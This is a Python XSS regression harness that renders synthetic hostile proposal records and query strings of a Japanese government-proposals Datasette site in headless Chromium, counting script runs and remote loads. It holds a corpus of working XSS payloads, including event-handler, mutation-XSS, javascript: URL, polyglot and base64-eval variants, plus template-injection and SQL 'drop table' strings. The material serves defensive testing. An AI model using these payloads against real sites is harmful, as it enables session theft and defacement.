"""XSS probe: hostile proposal content and query strings, rendered in headless Chromium (issue #17).

    .venv/bin/python scripts/xss_probe.py               # full run (~5 min on an idle 2-core machine; 2 Chromiums)
    .venv/bin/python scripts/xss_probe.py --quick       # a subset of pages, for a quick look
    .venv/bin/python scripts/xss_probe.py --strip-csp   # without the site's CSP header: what escaping alone stops
    .venv/bin/python scripts/xss_probe.py --keep DIR --json FILE   # keep files, DB, server log, DOMs; findings as JSON

Results and what the corpus covers: docs/reliability.md, section "XSS".

Writes SYNTHETIC proposal files (clearly marked, in a temporary folder, never in proposals/) that carry
a payload corpus in every field the site shows and that `kb check` accepts as free text, builds them with
the project's own `kb build`, serves the real site (`kb.serve.make_datasette` + uvicorn on 127.0.0.1) and
opens every page type in headless Chromium, also with payloads in every query parameter.

How "a script ran" and "a remote request" are counted, without driving the browser (no CDP):
- every payload that would run script sets a marker attribute on <html> (seen in `--dump-dom`, even
  when a Content-Security-Policy blocks network requests) and requests http://beacon.xss-probe.test/hit;
- every payload that would load a resource points at http(s)://remote.xss-probe.test/, standing for any
  outside host (another origin);
- Chromium's --host-resolver-rules send those two names, per worker, to local counting servers, and every
  other host name to a third one (requests carrying a Referer or Origin, i.e. made by a page, are counted;
  the browser's own background requests are not). A worker opens one page at a time, so each request
  is attributed to the page that made it.
The dumped DOM is also scanned for payload markup the browser parsed as elements or attributes (event
handlers, javascript: URLs, remote resources), whether or not it fired: a CSP may have blocked it, or it
needs a click. A harness control page (deliberately unsafe, payloads inserted raw) shows the counting works.

Fields that `kb check` refuses a payload in (registered names, fixed vocabularies, dates, numbers) are
protected by validation: the probe tries each of them and reports the refusal instead of bypassing it.
Exit status: 1 when any script ran or any remote request was made; 2 when none did but some pages
did not render (those are not proven safe); 0 otherwise.
"""

from __future__ import annotations

import argparse
import base64
import json
import queue
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, quote, urlsplit

import httpx
from datasette.utils import tilde_encode
from markdown_it import MarkdownIt

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO))

from kb.serve import HOST  # noqa: E402

BEACON_HOST = "beacon.xss-probe.test"
REMOTE_HOST = "remote.xss-probe.test"
MARK_ATTR = "data-xssran-"  # set on <html> by every script payload that runs
SNIPPET_MARK = f"setAttribute('{MARK_ATTR}"  # the start of every script payload's code
SSTI_PRODUCT = str(1337 * 1337)  # appears only if a {{ 1337*1337 }} payload was evaluated as a template
SYNTHETIC = "【合成・XSS 試験用（scripts/xss_probe.py）。実在の提案ではありません】"
YEAR, ERA = 2023, "令和5年"
LOCAL_GOVERNMENTS = ("宇和島市", "熊本市")  # registered names used by every synthetic proposal
MINISTRY = "総務省"
STATUTE_TEXT = "地方自治法第2条、架空試験法第3条。"  # one resolved and one unresolved citation per file
STATUTE_ID = "322AC0000000067"  # 地方自治法, so its page lists every synthetic proposal
CHROMIUM_FLAGS = [
    "--headless=new",
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-default-apps",
    "--disable-domain-reliability",
    "--no-pings",
    "--disable-features=HttpsUpgrades,MediaRouter,OptimizationHints,Translate",
    "--lang=ja",
]


# ---------------------------------------------------------------- payloads


def js(token: str) -> str:
    """Script that proves it ran: a marker on <html> (CSP-proof) and a beacon request. No spaces, no double quotes."""
    return (
        f"document.documentElement.setAttribute('{MARK_ATTR}{token}',1);"
        f"new(Image)().src='http://{BEACON_HOST}/hit?t={token}';void(0)"
    )


def remote(token: str, ext: str = "png", scheme: str = "http") -> str:
    return f"{scheme}://{REMOTE_HOST}/r/{token}.{ext}"


def b64_js(token: str) -> str:
    return base64.b64encode(js(token).encode()).decode()


def slashless_js(token: str) -> str:
    """The script with '/' and quotes %-escaped, inside eval(unescape(...)): it fits in a folder name."""
    return "eval(unescape('" + js(token).replace("/", "%2F").replace("'", "%27") + "'))"


def data_html(token: str) -> str:
    return "data:text/html;base64," + base64.b64encode(f"<script>{js(token)}</script>".encode()).decode()


@dataclass(frozen=True)
class Payload:
    """One hostile text. `kind`: script (runs script if unsafe), load (fetches a remote resource if
    unsafe), click (dangerous only when clicked: checked statically), text (template-looking text)."""

    id: int
    name: str
    kind: str
    template: str  # $JS, $R (remote URL), $RS (https remote), $RPR (protocol-relative), $B64, $DATA, $TOK

    def render(self, token: str) -> str:
        subs = {
            "$JS": js(token),
            "$RS": remote(token, scheme="https"),
            "$RPR": remote(token).removeprefix("http:"),
            "$RCSS": remote(token, "css"),
            "$RSVG": remote(token, "svg"),
            "$R": remote(token),
            "$B64": b64_js(token),
            "$DATA": data_html(token),
            "$TOK": token,
        }
        text = self.template
        for key, value in subs.items():  # $RS/$RCSS/$RSVG/$RPR before $R
            text = text.replace(key, value)
        return text


_CORPUS: list[tuple[str, str, str]] = [
    # Script tags and context breakers
    ("script-tag", "script", "<script>$JS</script>"),
    ("script-upper", "script", "<SCRIPT>$JS</SCRIPT>"),
    ("dq-break-svg", "script", '"><svg onload=$JS>'),
    ("sq-break-svg", "script", "'><svg/onload=$JS>"),
    ("img-onerror", "script", "<img src=x onerror=$JS>"),
    ("img-onerror-quoted", "script", '<img src="x" onerror="$JS">'),
    ("backtick-break", "script", "`\"'><img src=x onerror=$JS>"),
    ("backtick-attr", "script", "<img src=`x`onerror=$JS>"),
    ("attr-inject", "script", "'\" autofocus onfocus=$JS x="),
    ("body-onload", "script", "<body onload=$JS>"),
    ("details-ontoggle", "script", "<details open ontoggle=$JS>x</details>"),
    ("input-autofocus", "script", "<input autofocus onfocus=$JS>"),
    ("svg-script", "script", "<svg><script>$JS</script></svg>"),
    ("svg-animate", "script", "<svg><animate onbegin=$JS attributeName=x dur=1s></svg>"),
    ("iframe-srcdoc", "script", '<iframe srcdoc="<script>$JS</script>"></iframe>'),
    ("iframe-js", "script", '<iframe src="javascript:$JS"></iframe>'),
    ("object-js", "script", '<object data="javascript:$JS"></object>'),
    ("embed-js", "script", '<embed src="javascript:$JS">'),
    ("meta-refresh-js", "script", '<meta http-equiv="refresh" content="0;url=javascript:$JS">'),
    ("textarea-break", "script", "</textarea><script>$JS</script>"),
    ("title-break", "script", "</title><script>$JS</script>"),
    ("style-break", "script", "</style><script>$JS</script>"),
    ("script-break", "script", "</script><script>$JS</script>"),
    ("comment-break", "script", "--><script>$JS</script><!--"),
    ("cdata", "script", "<![CDATA[><script>$JS</script>]]>"),
    ("noscript-mxss", "script", '<noscript><p title="</noscript><img src=x onerror=$JS>">'),
    ("math-mxss", "script", "<math><mtext><table><mglyph><style><img src=x onerror=$JS>"),
    ("nested-tag", "script", "<scr<script>ipt>$JS</scr</script>ipt>"),
    ("unclosed-img", "script", "<img src=x onerror=$JS//"),
    ("entity-encoded", "script", "&lt;script&gt;$JS&lt;/script&gt;"),
    ("numeric-entity", "script", "&#60;img src=x onerror=$JS&#62;"),
    ("url-encoded", "script", "%3Cscript%3E$JS%3C%2Fscript%3E"),
    ("fullwidth-script", "script", "＜script＞$JS＜/script＞"),
    ("fullwidth-img", "script", "＜img src=x onerror=$JS＞"),
    ("eval-atob", "script", "<img src=x onerror=eval(atob('$B64'))>"),
    ("svg-xlink-js", "click", '<svg><a xlink:href="javascript:$JS"><text x="20" y="20">x</text></a></svg>'),
    # javascript:/data: links (need a click: checked statically in the DOM)
    ("md-js-link", "click", "[クリック](javascript:$JS)"),
    ("md-js-link-case", "click", "[x](JaVaScRiPt:$JS)"),
    ("md-js-link-entity", "click", "[x](&#106;avascript:$JS)"),
    ("md-js-autolink", "click", "<javascript:$JS>"),
    ("md-js-ref", "click", "[x][r1]\n\n[r1]: javascript:$JS"),
    ("md-data-link", "click", "[x]($DATA)"),
    ("md-vbscript", "click", "[x](vbscript:msgbox('$TOK'))"),
    ("md-img-js", "click", "![x](javascript:$JS)"),
    ("a-href-js", "click", '<a href="javascript:$JS">x</a>'),
    ("a-href-js-tab", "click", '<a href="java&#09;script:$JS">x</a>'),
    ("form-formaction-js", "click", '<form><button formaction="javascript:$JS">x</button></form>'),
    ("url-js", "click", "javascript:$JS"),
    ("url-js-space", "click", " JAVASCRIPT:$JS"),
    ("url-data", "click", "$DATA"),
    ("url-attr-break", "script", 'http://example.jp/x" onmouseover="$JS" x="'),
    ("url-tag-break", "script", "https://example.jp/\"><script>$JS</script>"),
    # Resources from another origin
    ("md-img-remote", "load", "![x]($R)"),
    ("md-img-https", "load", "![x]($RS)"),
    ("md-img-ref", "load", "![x][i1]\n\n[i1]: $R"),
    ("img-remote", "load", "<img src=$R>"),
    ("img-protocol-relative", "load", "<img src=$RPR>"),
    ("img-srcset", "load", '<img srcset="$R 1x">'),
    ("picture-source", "load", '<picture><source srcset="$R"><img src=x></picture>'),
    ("style-import", "load", "<style>@import url($RCSS);</style>"),
    ("css-url", "load", '<div style="background:url($R)">x</div>'),
    ("link-stylesheet", "load", "<link rel=stylesheet href=$RCSS>"),
    ("link-prefetch", "load", "<link rel=prefetch href=$R>"),
    ("base-href", "load", f'<base href="http://{REMOTE_HOST}/base/$TOK/"><img src=rel.png>'),
    ("meta-refresh-remote", "load", '<meta http-equiv="refresh" content="0;url=$R">'),
    ("iframe-remote", "load", "<iframe src=$R></iframe>"),
    ("object-remote", "load", "<object data=$R></object>"),
    ("embed-remote", "load", "<embed src=$R>"),
    ("svg-use", "load", '<svg><use href="$RSVG#a"/></svg>'),
    ("svg-image", "load", '<svg><image href="$R"/></svg>'),
    ("video-poster", "load", "<video poster=$R></video>"),
    ("audio-src", "load", "<audio src=$R autoplay></audio>"),
    ("input-image", "load", "<input type=image src=$R>"),
    ("table-background", "load", "<table background=$R><tr><td>x</td></tr></table>"),
    ("script-src-remote", "load", "<script src=$R></script>"),
    ("a-ping", "click", "<a href=$R ping=$R>x</a>"),
    ("form-action-remote", "click", "<form action=$R><input type=submit></form>"),
    ("md-link-remote", "click", "[x]($R)"),
    # Template-looking and other text
    ("jinja-expr", "text", "{{ 1337*1337 }} {{ ''.__class__ }}"),
    ("jinja-stmt", "text", "{% if 1 %}{{ 1337*1337 }}{% endif %}{% raw %}"),
    ("sql-quote", "text", "'); drop table proposals; -- $TOK"),
    ("rtl-override", "script", "\u202e<script>$JS</script>\u202c"),
]
PAYLOADS = [Payload(i, name, kind, template) for i, (name, kind, template) in enumerate(_CORPUS, start=1)]

# Query-string payloads: one polyglot for HTML text/attribute/script/RCDATA contexts, one for URL contexts,
# one that adds attributes without '<' or '>' (for a value reflected inside a quoted attribute).
QUERY_PAYLOADS = {
    "poly": Payload(0, "polyglot", "script", "</script></title></textarea></style>--!>\"'><svg onload=$JS><script>$JS</script>"),
    "jsurl": Payload(0, "javascript-url", "click", "javascript:$JS"),
    "attr": Payload(0, "attribute-inject", "script", "'\" autofocus onfocus=$JS x="),
}


# ---------------------------------------------------------------- synthetic corpus

SECTIONS = [  # (heading, field code used in tokens)
    ("求める措置の具体的内容", "measures"),
    ("具体的な支障事例", "problems"),
    ("地域住民や事業者等の具体的な意見・要望、支障事例等", "residents"),
    ("制度改正による効果", "effects"),
    ("根拠法令等", "legal"),
    ("追加共同提案団体から示された支障事例", "coprob"),
    ("各府省からの第1次回答", "answer1"),
    ("各府省からの第1次回答を踏まえた提案団体からの見解", "pview"),
    ("各府省からの第1次回答を踏まえた追加共同提案団体からの見解", "coview"),
    ("全国知事会・全国市長会・全国町村会からの意見", "assoc"),
    ("提案募集検討専門部会からの主な再検討の視点", "review"),
    ("各府省からの第2次回答", "answer2"),
    ("対応方針（閣議決定）記載内容", "decision"),
]
OPINIONS = [("全国知事会", "op-gov"), ("全国市長会", "op-mayor"), ("全国町村会", "op-town")]
FRONT_FIELDS = ["title", "theme", "src-title", "src-url"]
FREE_FIELDS = FRONT_FIELDS + [code for _, code in SECTIONS] + [code for _, code in OPINIONS] + ["path"]


def token(payload_id: int, field_code: str) -> str:
    return f"p{payload_id:02d}-{field_code}"


def _scalar(text: str) -> str:
    """A YAML double-quoted scalar (JSON strings are valid YAML), on one line."""
    return json.dumps(" ".join(text.split("\n")), ensure_ascii=False)


def proposal_text(p: Payload, number: int, front: dict[str, str] | None = None, heading: str | None = None) -> str:
    """One synthetic proposal with payload `p` in every free-text field (each with its own token).

    `front` overrides front-matter lines (used to try payloads in protected fields), `heading` adds
    a section with a payload heading.
    """
    fields = {
        "year": str(YEAR),
        "era": ERA,
        "number": str(number),
        "title": _scalar(SYNTHETIC + p.render(token(p.id, "title"))),
        "category": "B 地方に対する規制緩和",
        "policy_field": "11_総務",
        "theme": _scalar(p.render(token(p.id, "theme"))),
        "proponents": f"\n  - {LOCAL_GOVERNMENTS[0]}",
        "co_proponents": f"\n  - {LOCAL_GOVERNMENTS[1]}",
        "ministries": f"\n  - {MINISTRY}",
        "decision": "\n  date: 2023-12-22\n  outcome: 未決定",
        "sources": (
            "\n  - stage: 最終的な調整結果\n    title: " + _scalar(SYNTHETIC + p.render(token(p.id, "src-title")))
            + "\n    url: " + _scalar(p.render(token(p.id, "src-url")))
            + "\n    page: " + _scalar(p.render(token(p.id, "src-page")))
            + "\n    link_text: " + _scalar(p.render(token(p.id, "src-link")))
            + "\n    retrieved: 2026-11-30"
        ),
    }  # fmt: skip
    fields.update(front or {})
    lines = ["---", *(f"{key}: {value}" for key, value in fields.items()), "---", ""]
    for section, code in SECTIONS:
        lines += [f"## {section}", ""]
        if code == "assoc":
            for association, op_code in OPINIONS:
                lines += [f"### {association}", "", SYNTHETIC, "", p.render(token(p.id, op_code)), ""]
            continue
        intro = SYNTHETIC + (STATUTE_TEXT if code == "legal" else "")
        lines += [intro, "", p.render(token(p.id, code)), ""]
    if heading is not None:
        lines += [f"## {heading}", "", "—", ""]
    return "\n".join(lines)


def folder_name(p: Payload) -> str:
    """A folder name carrying a script payload (no '/'): the file path is shown on the site."""
    code = slashless_js(token(p.id, "path"))
    return f"{p.id:02d}-" + (f"<img src=x onerror={code}>" if p.id % 2 else f"\"><svg onload={code}>")


def write_corpus(root: Path, payloads: list[Payload]) -> dict[str, Payload]:
    """The synthetic proposals, one per payload, each under a folder whose name is a payload."""
    root.mkdir(parents=True, exist_ok=True)
    (root / "README-SYNTHETIC.txt").write_text("Synthetic hostile proposals written by scripts/xss_probe.py.\n")
    ids = {}
    for p in payloads:
        folder = root / folder_name(p) / str(YEAR)
        folder.mkdir(parents=True)
        (folder / f"{p.id:04d}.md").write_text(proposal_text(p, p.id), encoding="utf-8")
        ids[f"{YEAR}-{p.id:04d}"] = p
    return ids


# Fields `kb check` validates: (field, front-matter override or None, section heading or None).
PROTECTED: list[tuple[str, Callable[[str], dict[str, str]] | None, bool]] = [
    ("proponents", lambda v: {"proponents": f"\n  - {_scalar(v)}"}, False),
    ("co_proponents", lambda v: {"co_proponents": f"\n  - {_scalar(v)}"}, False),
    ("ministries", lambda v: {"ministries": f"\n  - {_scalar(v)}"}, False),
    ("sheet_ministry", lambda v: {"sheet_ministry": _scalar(v)}, False),
    ("sources[].ministry", lambda v: {"sources": f"\n  - stage: 最終的な調整結果\n    title: x\n    ministry: {_scalar(v)}"}, False),
    ("sources[].stage", lambda v: {"sources": f"\n  - stage: {_scalar(v)}\n    title: x"}, False),
    ("policy_field", lambda v: {"policy_field": _scalar(v)}, False),
    ("category", lambda v: {"category": _scalar(v)}, False),
    ("era", lambda v: {"era": _scalar(v)}, False),
    ("decision.outcome", lambda v: {"decision": f"\n  date: 2023-12-22\n  outcome: {_scalar(v)}"}, False),
    ("decision.date", lambda v: {"decision": f"\n  date: {_scalar(v)}\n  outcome: 未決定"}, False),
    ("serial", lambda v: {"serial": _scalar(v)}, False),
    ("unknown key", lambda v: {"x_note": _scalar(v)}, False),
    ("section heading", None, True),
]


@dataclass
class Refusal:
    field: str
    refused: bool
    message: str


def probe_validation(root: Path, payload: Payload) -> list[Refusal]:
    """Put a payload in each protected field (one file each) and record what `kb check` says."""
    folder = root / str(YEAR)
    folder.mkdir(parents=True)
    for n, (name, front, heading) in enumerate(PROTECTED, start=1):
        value = payload.render(f"v{n:02d}")
        text = proposal_text(PAYLOADS[-1], n, front=front(value) if front else None, heading=value if heading else None)
        (folder / f"{n:04d}.md").write_text(text, encoding="utf-8")
    control = len(PROTECTED) + 1  # the same file with no override: must pass, or the refusals mean nothing
    (folder / f"{control:04d}.md").write_text(proposal_text(PAYLOADS[-1], control), encoding="utf-8")
    run = subprocess.run([str(REPO / ".venv/bin/kb"), "check", "--format", "json", str(root)],
                         check=False, capture_output=True, text=True, cwd=REPO, timeout=300)  # fmt: skip
    by_number: dict[int, list[str]] = {}
    for line in run.stdout.splitlines():
        try:
            problem = json.loads(line)
        except json.JSONDecodeError:
            continue
        m = re.search(r"(\d{4})\.md$", problem.get("path", ""))
        if m:
            by_number.setdefault(int(m.group(1)), []).append(f"{problem.get('field')}: {problem.get('message')}")
    if by_number.get(control):
        raise SystemExit(f"the control file of the validation probe has problems: {by_number[control]}")
    found = []
    for n, (name, _, _) in enumerate(PROTECTED, start=1):
        messages = by_number.get(n, [])
        found.append(Refusal(name, bool(messages), messages[0] if messages else "accepted"))
    return found


def build_db(proposals: Path, db: Path) -> None:
    """The project's own build (check first, then build); a refusal here means a free field is not free."""
    run = subprocess.run([str(REPO / ".venv/bin/kb"), "build", "--db", str(db), str(proposals)],
                         check=False, capture_output=True, text=True, cwd=REPO, timeout=600)  # fmt: skip
    if run.returncode != 0:
        raise SystemExit(f"kb build refused the synthetic corpus:\n{run.stdout[-3000:]}\n{run.stderr[-3000:]}")


def payload_columns(db: Path) -> dict[str, int]:
    """table.column -> rows carrying a payload token: where proposal content reaches the database."""
    conn = sqlite3.connect(db)
    found: dict[str, int] = {}
    tables = [r[0] for r in conn.execute("select name from sqlite_master where type = 'table' and name not like '%fts%'")]
    for table in tables:
        for col in [r[1] for r in conn.execute(f'pragma table_info("{table}")')]:
            n = conn.execute(
                f'select count(*) from "{table}" where cast("{col}" as text) like ? or cast("{col}" as text) like ?',
                ("%xss-probe%", "%xssran%"),
            ).fetchone()[0]
            if n:
                found[f"{table}.{col}"] = n
    return found


# ---------------------------------------------------------------- pages


@dataclass(frozen=True)
class Page:
    name: str
    path: str
    raw: bool = False  # JSON/CSV: no site header expected


def _q(text: str) -> str:
    return quote(text, safe="")


def content_pages(db: Path, ids: dict[str, Payload], quick: bool) -> list[Page]:
    """Every page type that shows proposal content."""
    conn = sqlite3.connect(db)
    columns = [r[1] for r in conn.execute("pragma table_info(proposals)")]
    tables = [r[0] for r in conn.execute("select name from sqlite_master where type = 'table' order by name")]
    source_id = conn.execute("select id from sources order by id limit 1").fetchone()[0]
    citation_id = conn.execute("select id from citations order by id limit 1").fetchone()[0]
    themes = [r[0] for r in conn.execute("select theme from proposals order by id limit 5")]
    list_cols = "&".join(f"_col={c}" for c in ["title", "year", "category", "policy_field", "ministries", "outcome", "stage"])
    pages = [
        Page("front page", "/"),
        Page("database page", "/kb"),
        Page("proposals table (default)", "/kb/proposals"),
        Page("proposals table, every column", "/kb/proposals?" + "&".join(f"_col={c}" for c in columns)),
        Page("proposals table, facets on payload columns",
             f"/kb/proposals?{list_cols}&_facet=title&_facet=theme&_facet=file&_facet=measures&_facet_array=statutes"),
        Page("proposals table, _search=script", f"/kb/proposals?{list_cols}&_search=script"),
        Page("proposals table, sorted by title", "/kb/proposals?_sort=title&_col=title&_col=theme&_col=file"),
        *(Page(f"proposals table, theme facet selected ({i})", f"/kb/proposals?{list_cols}&_facet=theme&theme={_q(t)}")
          for i, t in enumerate(themes[: 2 if quick else 5], start=1)),
        *(Page(f"theme row page ({i})", "/kb/themes/" + tilde_encode(t))
          for i, t in enumerate(themes[: 1 if quick else 5], start=1)),
        Page("ranked search q=script", "/search?q=script"),
        Page("ranked search q=onerror", "/search?q=onerror"),
        Page("ranked search q=javascript", "/search?q=javascript"),
        Page("ranked search q=合成 page 2", "/search?q=" + _q("合成") + "&page=2"),
        Page("ranked search q=架空試験法", "/search?q=" + _q("架空試験法")),
        Page("canned query search", "/kb/search?q=script"),
        Page("canned query local government", "/kb/proposals_of_local_government?name=" + _q("宇和島")),
        Page("canned query statute", "/kb/proposals_citing_statute?statute=" + _q("地方自治法") + "&article="),
        Page("SQL select * from proposals", "/kb?sql=" + _q("select * from proposals")),
        Page("SQL select * from sources", "/kb?sql=" + _q("select * from sources")),
        Page("SQL select * from opinions", "/kb?sql=" + _q("select * from opinions")),
        Page("local government page", "/kb/local_governments/" + _q(LOCAL_GOVERNMENTS[0])),
        Page("local government page (co-proponent)", "/kb/local_governments/" + _q(LOCAL_GOVERNMENTS[1])),
        Page("ministry page", "/kb/ministries/" + _q(MINISTRY)),
        Page("prefecture page", "/kb/prefectures/" + _q("愛媛県")),
        Page("charts page", "/-/charts"),
        Page("Atom feed", "/feed.atom", raw=True),
        Page("ranked search, prefecture name", "/search?q=" + _q("愛媛県")),
        Page("ranked search, ministry name", "/search?q=" + _q(MINISTRY)),
        Page("canned query local government, page 2", "/kb/proposals_of_local_government?name=" + _q("宇和島") + "&page=2"),
        Page("data description", "/-/data"),
        Page("statute page", f"/kb/statutes/{STATUTE_ID}"),
        Page("source row page", f"/kb/sources/{source_id}"),
        Page("citation row page", f"/kb/citations/{_q(str(citation_id))}"),
        Page("opinion row page", "/kb/opinions/" + _q(next(iter(ids))) + ",1"),
        Page("sources table, facet on title", "/kb/sources?_facet=title&_facet=url"),
        Page("opinions table, facet on text", "/kb/opinions?_facet=text"),
        Page("citations table, facet on quote", "/kb/citations?_facet=quote&_facet=title"),
        *(Page(f"Datasette page /-/{name}", f"/-/{name}") for name in ("metadata", "versions", "plugins", "settings", "databases")),
        Page("proposals JSON", "/kb/proposals.json?_shape=array&_col=title&_col=theme&_col=measures", raw=True),
        Page("proposals CSV", "/kb/proposals.csv?_col=title&_col=theme&_col=measures&_col=file", raw=True),
        Page("proposal row JSON", f"/kb/proposals/{next(iter(ids))}.json", raw=True),
        Page("sources JSON", "/kb/sources.json?_shape=objects", raw=True),
    ]  # fmt: skip
    pages += [Page(f"table {t}", f"/kb/{t}") for t in tables if t not in ("proposals",) and "_fts" not in t]
    chosen = list(ids.items())
    if quick:
        wanted = {"script-tag", "dq-break-svg", "img-onerror", "attr-inject", "md-js-link", "md-img-remote",
                  "iframe-remote", "style-import", "meta-refresh-remote", "base-href", "title-break", "jinja-expr"}  # fmt: skip
        chosen = [(i, p) for i, p in chosen if p.name in wanted]
    pages += [Page(f"proposal page {pid} ({p.name})", f"/kb/proposals/{pid}") for pid, p in chosen]
    return pages


# (code, path with {P} where the URL-encoded payload goes; {S} = payload as an SQL string literal body,
#  {C} = as an SQL quoted identifier body)
QUERY_PARAMS: list[tuple[str, str]] = [
    ("search-q", "/search?q={P}"),
    ("search-page", "/search?q=%E5%90%88%E6%88%90&page={P}"),
    ("tbl-search", "/kb/proposals?_search={P}"),
    ("tbl-search-col", "/kb/proposals?_search_title={P}"),
    ("tbl-facet", "/kb/proposals?_facet={P}"),
    ("tbl-facet-array", "/kb/proposals?_facet_array={P}"),
    ("tbl-facet-size", "/kb/proposals?_facet=theme&_facet_size={P}"),
    ("tbl-sort", "/kb/proposals?_sort={P}"),
    ("tbl-sort-desc", "/kb/proposals?_sort_desc={P}"),
    ("tbl-col", "/kb/proposals?_col={P}"),
    ("tbl-nocol", "/kb/proposals?_nocol={P}"),
    ("tbl-where", "/kb/proposals?_where={P}"),
    ("tbl-next", "/kb/proposals?_next={P}"),
    ("tbl-size", "/kb/proposals?_size={P}"),
    ("tbl-through", "/kb/proposals?_through={P}"),
    ("tbl-contains", "/kb/proposals?title__contains={P}"),
    ("tbl-exact", "/kb/proposals?_facet=theme&theme={P}"),
    ("tbl-not", "/kb/proposals?theme__not={P}"),
    ("tbl-arraycontains", "/kb/proposals?_facet_array=ministries&ministries__arraycontains={P}"),
    ("tbl-param-name", "/kb/proposals?{P}=1"),
    ("tbl-op-name", "/kb/proposals?title__{P}=1"),
    ("tbl-json-callback", "/kb/proposals.json?_callback={P}"),
    ("tbl-csv-search", "/kb/proposals.csv?_search={P}"),
    ("sources-contains", "/kb/sources?title__contains={P}"),
    ("statutes-kind", "/kb/statutes?kind={P}"),
    ("canned-search", "/kb/search?q={P}"),
    ("canned-localgov", "/kb/proposals_of_local_government?name={P}"),
    ("canned-page", "/kb/proposals_of_local_government?name=%E5%AE%87&page={P}"),
    ("charts-csv", "/-/charts/{P}.csv"),
    ("canned-statute", "/kb/proposals_citing_statute?statute={P}&article={P}"),
    ("sql-literal", "/kb?sql=select%20%27{S}%27%20as%20x"),
    ("sql-column", "/kb?sql=select%201%20as%20%22{C}%22"),
    ("sql-error", "/kb?sql={P}"),
    ("allow-debug", "/-/allow-debug?actor={P}&allow={P}"),
    ("fragment", "/kb/proposals?_search=script#{P}"),
    ("404-root", "/{P}"),
    ("404-static", "/-/static/{P}"),
    ("404-table", "/kb/{P}"),
    ("404-row", "/kb/proposals/{P}"),
    ("404-statute", "/kb/statutes/{P}"),
]
# Not templated pages: JSON/CSV, and Datasette's static-file handler, which answers a bare "404: File not found".
RAW_PARAMS = {"tbl-json-callback", "tbl-csv-search", "404-static"}


def query_pages(quick: bool) -> list[Page]:
    """Every query parameter (and the path) with each query payload."""
    variants = ["poly"] if quick else list(QUERY_PAYLOADS)
    pages = []
    for code, template in QUERY_PARAMS:
        for variant in variants:
            text = QUERY_PAYLOADS[variant].render(f"q{variant}-{code}")
            path = (template.replace("{P}", _q(text)).replace("{S}", _q(text.replace("'", "''")))
                    .replace("{C}", _q(text.replace('"', '""'))))  # fmt: skip
            pages.append(Page(f"query {code} = {variant}", path, raw=code in RAW_PARAMS))
    return pages


# ---------------------------------------------------------------- counting servers


@dataclass
class Hit:
    server: str  # beacon / remote / other
    page: str
    detail: str  # path, or "TLS handshake" / host


class Sink(ThreadingHTTPServer):
    """A local server standing for a host name; records every request with the page being visited."""

    daemon_threads = True

    def __init__(self, role: str):
        super().__init__((HOST, 0), _SinkHandler)
        self.role = role
        self.page = ""
        self.hits: list[Hit] = []
        self.background = 0  # requests from the browser itself (no Referer/Origin), not counted
        self.lock = threading.Lock()
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def port(self) -> int:
        return self.server_address[1]

    def record(self, detail: str, from_page: bool = True) -> None:
        with self.lock:
            if from_page or self.role != "other":
                self.hits.append(Hit(self.role, self.page, detail))
            else:
                self.background += 1


class _SinkHandler(BaseHTTPRequestHandler):
    server: Sink

    def handle(self) -> None:
        try:
            first = self.connection.recv(1, socket.MSG_PEEK)
        except OSError:
            return
        if first == b"\x16":  # a TLS ClientHello: an https:// request to this host
            self.server.record("TLS handshake (https request)", from_page=self.server.role != "other")
            return
        super().handle()

    def _answer(self) -> None:
        from_page = bool(self.headers.get("Referer") or self.headers.get("Origin"))
        detail = self.path if self.server.role != "other" else f"{self.headers.get('Host')}{self.path}"
        self.server.record(detail, from_page)
        body = b"body{}" if self.path.endswith(".css") else b"remote"
        self.send_response(200)
        self.send_header("Content-Type", "text/css" if self.path.endswith(".css") else "text/plain")
        self.send_header("Cache-Control", "no-store")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    do_GET = do_POST = do_HEAD = _answer

    def log_message(self, format: str, *args: Any) -> None:
        pass


# ---------------------------------------------------------------- the browser


@dataclass
class Visit:
    page: Page
    status: int
    rendered: bool
    markers: list[str]  # tokens whose script ran (marker on <html>)
    markup: list[str]  # live payload markup found in the DOM
    ssti: bool
    error: str = ""
    hits: list[Hit] = field(default_factory=list)


class _DomScan(HTMLParser):
    """Live payload markup in a dumped DOM: what the browser parsed as elements, not as text."""

    INERT = frozenset({"title", "alt", "value", "placeholder", "class", "id", "name", "type", "rel", "lang", "dir", "for",
             "label", "scope", "role", "colspan", "rowspan", "width", "height", "method", "start", "open"})  # fmt: skip
    URL_ATTRS = frozenset({"href", "src", "srcset", "data", "poster", "background", "action", "formaction", "xlink:href",
                 "ping", "srcdoc", "content", "style", "code", "codebase", "manifest", "lowsrc"})  # fmt: skip

    def __init__(self, site: str):
        super().__init__(convert_charrefs=True)
        self.site = site
        self.markers: list[str] = []
        self.found: list[str] = []
        self.stack_tag = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.stack_tag = tag
        for name, value in attrs:
            value = value or ""
            if tag == "html" and name.startswith(MARK_ATTR):
                self.markers.append(name.removeprefix(MARK_ATTR))
                continue
            if name in self.INERT or name.startswith(("data-", "aria-")):
                continue
            squeezed = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            ours = "xss-probe" in value or "xssran" in value
            if name.startswith("on") and ours:
                self.found.append(f"<{tag} {name}=…> event handler {_tokens(value)}")
            elif name in self.URL_ATTRS and re.match(r"(javascript|vbscript|data:text/html)", squeezed):
                self.found.append(f"<{tag} {name}={squeezed[:24]}…> script URL {_tokens(value)}")
            elif ours and name in self.URL_ATTRS:
                if tag in ("a", "area") and name == "href" and re.match(r"https?://", squeezed):
                    continue  # a plain link to an http(s) page: navigation only, allowed (source URLs)
                if value.startswith(("/", "?", "#", self.site)) and not value.startswith("//"):
                    continue  # a link back into the site whose query string carries the payload as data
                self.found.append(f"<{tag} {name}=…> resource/markup {_tokens(value)}")

    def handle_data(self, data: str) -> None:
        if self.stack_tag == "script" and SNIPPET_MARK in data:
            self.found.append(f"<script> element {_tokens(data)}")
        if self.stack_tag == "style" and re.search(r"(url\(|@import)[^;]*xss-probe", data):
            self.found.append(f"<style> element {_tokens(data)}")

